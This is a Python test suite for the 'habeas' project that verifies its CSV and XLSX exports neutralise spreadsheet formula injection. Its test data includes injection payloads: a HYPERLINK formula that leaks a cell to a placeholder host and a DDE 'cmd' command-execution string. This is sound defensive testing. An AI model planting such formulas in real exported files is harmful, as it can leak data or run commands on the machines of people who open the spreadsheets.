"""No export of habeas is a formula in a spreadsheet (CSV injection, issue #14.4).

Texts that begin with ``= + - @``, a tab or a carriage return get one ``'`` in
front in CSV files (and are recovered by removing it); XLSX cells are texts,
never formulas, and keep the exact text; numbers stay numbers.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from habeas.access.reader import Reader
from habeas.demo import load_case
from habeas.ingest.importer import ImportOptions, import_file
from habeas.linkage import decide, export_decisions, import_decisions, link, queue
from habeas.report.export import export
from habeas.report.spreadsheet import csv_text, csv_value, xlsx_cell
from habeas.store.db import Store
from habeas.store.schema_linkage import ReviewDecision

FORMULA = '=HYPERLINK("http://x.example/?q="&A1), ANA'
LIST = (
    "No.,NAME,DOB,NATIONALITY\n"
    '@SUM(1),"=HYPERLINK(""http://x.example/?q=""&A1), ANA",05/04/1990,VEN\n'
    '-2,"+CALC, JOSE",05/04/1990,VEN\n'
    '7,"\'QUOTED, LUIS",05/04/1990,VEN\n'
)
SRC = Path(__file__).resolve().parents[2] / "src" / "habeas"


def _load(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text(LIST, encoding="utf-8")
    import_file(
        store,
        path,
        ImportOptions(
            source_title="Lista",
            source_kind="list",
            date_order="MDY",
            defaults={"event_type": "removal_flight", "event_date": "2025-03-15"},
        ),
        actor="ana",
    )


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'x", "\uff1dcmd"])
def test_a_dangerous_text_gets_one_quote_and_comes_back(value: str) -> None:
    assert csv_value(value) == "'" + value
    assert csv_text(csv_value(value)) == value


@pytest.mark.parametrize("value", [-5, -2.5, 0, 7, None, True])
def test_numbers_are_left_alone(value: object) -> None:
    assert csv_value(value) == value
    assert xlsx_cell(None, value) == value


def test_plain_texts_are_unchanged() -> None:
    assert csv_value("ANA 2024-01-02") == "ANA 2024-01-02"
    assert csv_text("ANA") == "ANA"


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_csv_export_neutralises_formulas(store: Store, tmp_path: Path) -> None:
    _load(store, tmp_path)
    export(store, "records", tmp_path / "r.csv")
    rows = list(csv.DictReader((tmp_path / "r.csv").open(encoding="utf-8-sig")))
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v[:1] and v[:1] in "=+-@\t\r"], cells
    by_key = {csv_text(r["record_id"]): r for r in rows}
    assert set(by_key) == {"@SUM(1)", "-2", "7"}
    assert by_key["@SUM(1)"]["full_name"] == "'" + FORMULA
    assert csv_text(by_key["@SUM(1)"]["full_name"]) == FORMULA
    assert by_key["-2"]["record_id"] == "'-2"  # a text column: quoted
    assert csv_text(by_key["7"]["full_name"]) == "'QUOTED, LUIS"  # the quote itself survives
    assert by_key["7"]["row"] == "4"  # numbers untouched


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_xlsx_export_writes_texts_never_formulas(store: Store, tmp_path: Path) -> None:
    _load(store, tmp_path)
    export(store, "records", tmp_path / "r.xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx")["records"]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    cells = [c for row in rows[1:] for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = {c.value for c in cells if header[c.column - 1] == "full_name"}
    assert FORMULA in names and "'QUOTED, LUIS" in names  # the exact text
    formula_cell = next(c for c in cells if c.value == FORMULA)
    assert formula_cell.data_type == "s" and formula_cell.quotePrefix
    numbers = [c.value for c in cells if header[c.column - 1] == "row"]
    assert numbers == [2, 3, 4]  # numbers stay numbers


def test_negative_numbers_stay_numbers_in_xlsx(tmp_path: Path) -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("n")
    sheet.append([xlsx_cell(sheet, v) for v in (-5, -2.5, "-5", "=1+1")])
    workbook.save(tmp_path / "n.xlsx")
    row = next(load_workbook(tmp_path / "n.xlsx")["n"].iter_rows())
    assert [(c.value, c.data_type) for c in row] == [
        (-5, "n"),
        (-2.5, "n"),
        ("-5", "s"),
        ("=1+1", "s"),
    ]


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_review_export_neutralises_formulas_and_round_trips(
    store: Store, demo_case: Path, tmp_path: Path
) -> None:
    load_case(store, demo_case)
    link(store, actor="tester")
    admin = Reader("admin", "ana", "documentation")
    pair = queue(store, 1, reader=admin).pairs[0]
    decide(
        store,
        (pair["record_a"], pair["record_b"]),
        "unsure",
        reviewer="=ana",
        note="=cmd|' /C calc'!A0",
        reader=admin,
    )
    path = tmp_path / "queue.csv"
    export_decisions(store, path, reader=admin)
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert not [v for r in rows for v in r.values() if v[:1] and v[:1] in "=+-@\t\r"]
    row = next(r for r in rows if r["decision"] == "unsure")
    assert row["note"] == "'=cmd|' /C calc'!A0" and row["reviewer"] == "'=ana"
    row["decision"] = "different"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    assert import_decisions(store, path, reviewer="ana", reader=admin) == 1
    with store.read() as s:
        latest = (
            s.query(ReviewDecision)
            .filter(ReviewDecision.superseded_at.is_(None), ReviewDecision.decision == "different")
            .one()
        )
    assert (latest.note, latest.reviewer) == ("=cmd|' /C calc'!A0", "=ana")


def test_every_csv_and_xlsx_writer_uses_the_one_helper() -> None:
    writers = re.compile(r"csv\.(Dict)?[wW]riter\(|Workbook\(")
    missing = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "synth" in path.parts or path.name == "spreadsheet.py":
            continue  # synthetic test lists are meant to look like the raw originals
        if writers.search(text) and "habeas.report.spreadsheet" not in text:
            missing.append(str(path.relative_to(SRC)))
    assert missing == []
